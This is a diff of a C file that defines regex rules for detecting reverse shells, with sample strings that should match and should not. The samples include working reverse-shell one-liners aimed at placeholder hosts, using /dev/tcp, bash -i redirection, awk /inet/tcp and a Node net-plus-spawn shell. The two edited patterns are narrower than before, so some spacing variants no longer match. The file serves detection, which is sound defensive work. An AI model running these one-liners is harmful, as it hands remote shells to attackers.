@@ -8,7 +8,7 @@ static const symbi_skill_rule rules[] = {
      "/dev/(?:tcp|udp)/",
      SYMBI_SKILL_CRITICAL, { "exec 5<>/dev/tcp/1.2.3.4/9", "cat x > /dev/udp/a.example/53" }, { "open /dev/tty", "dev/tcp/" }, 0 },
     { "interactive-shell-redirect", "reverse-shell", "An interactive shell is redirected",
-     "\\b(?:ba|z|k|da)?sh\\s+-i\\b\\s*(?:.*\\s)?(?:\\d*>&|\\d*<&|\\d?<>|&>|\\|)",
+     "\\b(?:ba|z|k|da)?sh(?: |\\t|  )-i\\b\\s*(?:.*\\s)?(?:\\d*>&|\\d*<&|\\d?<>|&>|\\|)",
      SYMBI_SKILL_CRITICAL, { "bash -i >& /tmp/p 0>&1", "sh -i 5<> /tmp/s 0<&5" }, { "bash -i", "ssh -i key host" }, 0 },
     { "netcat-shell", "reverse-shell", "Netcat hands out a shell",
      "\\bnc\\.(?:traditional|openbsd)\\b.*-[ec]|\\b(?:nc|ncat|netcat)(?:\\.exe)?[ \\t].*\\B(?:-\\w*[ec]|--(?:sh-|lua-)?exec)\\s*=?\\s*[\"\\x27]?(?:/\\S*/)?("
@@ -63,7 +63,7 @@ static const symbi_skill_rule rules[] = {
      "/inet[46]?/(?:tcp|udp)/|\\bztcp\\b|\\bzsh/net/tcp\\b|\\bxterm\\s+(?:-\\S+\\s+)*-display\\s+\\S",
      SYMBI_SKILL_CRITICAL, { "awk 'BEGIN{s=\"/inet/tcp/0/1.2.3.4/9\"}'" }, { "inet 10.0.0.1" }, 0 },
     { "node-reverse-shell", "reverse-shell", "A Node program joins a socket and a shell",
-     "(?:\\bnet\\.(?:connect|socket|createconnection)\\b|\\brequire\\s*\\(\\s*[\"\\x27]?(?:node:)?net[\"\\x27]?\\s*\\)).*\\b(?:spawn|exec|child_process|/bin"
+     "(?:\\bnet\\.connect\\b|\\bnet\\.socket\\b|\\bnet\\.createconnection\\b|\\brequire\\([\"\\x27](?:node:)?net[\"\\x27]\\)).*\\b(?:spawn|exec|child_process|/bin"
      "/)|\\b(?:spawn|exec)\\s*\\(\\s*[\"\\x27](?:/bin/)?(?:ba)?sh[\"\\x27].*\\b(?:net\\.connect|net\\.socket|socket\\.pipe)\\b",
      SYMBI_SKILL_CRITICAL, { "require(\"net\").connect(9,\"1.2.3.4\",c=>{sh=require(\"child_process\").spawn(\"sh\")})" }, { "net.connect(80, host)" }, 0 },
     { "lua-reverse-shell", "reverse-shell", "A Lua program joins a socket and a shell",
